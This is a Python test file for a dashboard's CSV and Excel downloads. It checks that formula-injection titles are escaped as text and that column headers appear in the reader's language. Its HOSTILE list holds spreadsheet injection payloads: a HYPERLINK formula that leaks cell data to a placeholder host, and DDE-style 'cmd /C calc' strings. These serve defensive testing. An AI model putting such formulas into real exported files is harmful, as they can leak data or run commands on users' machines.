"""The files people download: human headers in the reader's language, and text from outside
stays text (a title such as "=HYPERLINK(...)" is no formula in the Excel or CSV download)."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest
import recompute
from pagetest import ROOT

from ogp import cli
from ogp.app import ui
from ogp.data.store import Store
from ogp.model import i18n, text
from ogp.model.filters import Filters
from ogp.render import tables

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """The bundled 2024 export with four Albanian titles (and one lead institution) replaced by
    formulas, imported as a snapshot by the real importer."""
    folder = tmp_path_factory.mktemp("hostile")
    raw = recompute.current_raw().copy()
    albania = raw.index[raw["Code"] == "ALB"][: len(HOSTILE)]
    assert len(albania) == len(HOSTILE)
    raw.loc[albania, "Commitment Title"] = HOSTILE
    raw.loc[albania[0], "Lead Institution"] = "=1+1"
    path = folder / "export.csv"
    raw.to_csv(path, index=False)
    assert cli.main(["import", str(path), "--as-of", "2024-07-06", "--data-dir", str(folder)]) == 0
    store = Store(folder)
    store.wait_search()
    return store


def export(store, **filters) -> pd.DataFrame:
    """The commitments download as the page makes it (ui.export_buttons)."""
    return ui.readable(store.query("commitments_export", **Filters(**filters).params()))


def test_excel_download_holds_no_formula(hostile_store):
    frame = export(hostile_store, members=("ALB",))
    book = openpyxl.load_workbook(io.BytesIO(tables.excel_bytes(frame)))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # ... and the titles read exactly as the data has them.
    values = {c.value for c in cells}
    assert set(HOSTILE) <= values and "=1+1" in values


def test_csv_download_has_no_field_a_spreadsheet_would_run(hostile_store):
    frame = export(hostile_store, members=("ALB",))
    rows = list(csv.reader(io.StringIO(tables.csv_bytes(frame).decode("utf-8"))))
    assert len(rows) == len(frame) + 1
    fields = [f for row in rows for f in row]
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@")]
    # The text is all there, behind one apostrophe.
    assert {"'" + h for h in HOSTILE} <= set(fields)


def test_negative_numbers_stay_numbers():
    frame = pd.DataFrame({"change": [-3, 4], "share": [-0.5, 1.0], "note": ["-3", "ok"]})
    rows = list(csv.reader(io.StringIO(tables.csv_bytes(frame).decode("utf-8"))))
    assert rows[1][:2] == ["-3", "-0.5"]  # numbers, as numbers
    assert rows[1][2] == "'-3"  # text that looks like a formula, as text
    sheet = openpyxl.load_workbook(io.BytesIO(tables.excel_bytes(frame))).active
    assert sheet["A2"].value == -3 and sheet["A2"].data_type == "n"


def test_no_writer_bypasses_the_safe_functions():
    # Every CSV and Excel the product writes goes through tables.csv_bytes / excel_bytes.
    offenders = []
    for path in [*ROOT.glob("ogp/**/*.py"), *ROOT.glob("pages/*.py"), ROOT / "dashboard.py"]:
        if path.name in ("tables.py", "synth.py", "bench.py"):  # synth/bench write test data files
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(", line):
                offenders.append(f"{path.name}:{n}")
    assert not offenders


@pytest.mark.parametrize("lang", list(i18n.LANGUAGES))
def test_commitments_export_has_human_headers_in_the_readers_language(lang):
    store = Store(ROOT / "data")
    with i18n.using(lang):
        frame = export(store, members=("ALB",))
        labels = {c: text.column_label(c) for c in text.COLUMN_LABELS}
    internal = {"member_code", "completion_midterm", "completion_end", "year_submitted", "key"}
    assert not internal & set(frame.columns)
    assert not [c for c in frame.columns if "_" in c]  # no column left with its internal name
    assert labels["member_code"] in frame.columns and labels["completion_midterm"] in frame.columns
    if lang != "en":
        english = {text.column_label(c) for c in text.COLUMN_LABELS}
        translated = [c for c in frame.columns if c not in english]
        assert len(translated) >= len(frame.columns) - 3, frame.columns  # a few read the same


@pytest.mark.parametrize("lang", [x for x in i18n.LANGUAGES if x != i18n.DEFAULT])
def test_members_export_has_the_headers_on_screen(lang):
    store = Store(ROOT / "data")
    table = store.query("by_member", **Filters().params())
    with i18n.using(lang):
        frame = tables.headed(tables.member_rows(table))
        on_screen = ui.member_columns()
    header = {c: (h if isinstance(h, str) else h["label"]) for c, h in on_screen.items()}
    assert list(frame.columns) == [header[c] for c in tables.MEMBER_COLUMNS]
    assert len(frame) == len(recompute.latest().code.unique())
    book = openpyxl.load_workbook(io.BytesIO(tables.excel_bytes(frame, "m")))
    assert [c.value for c in book.active[1]] == list(frame.columns)


def test_members_page_counts_its_members_and_offers_excel():
    from pagetest import assert_clean, run_page

    at = run_page("pages/members.py")
    assert_clean(at)
    n = len(set(recompute.latest().code))
    assert f"**{n}** members" in [m.value for m in at.markdown]
    labels = [b.proto.label for b in at.get("download_button")]
    assert f"Download {n} rows as Excel" in labels and f"Download {n} rows as CSV" in labels, labels
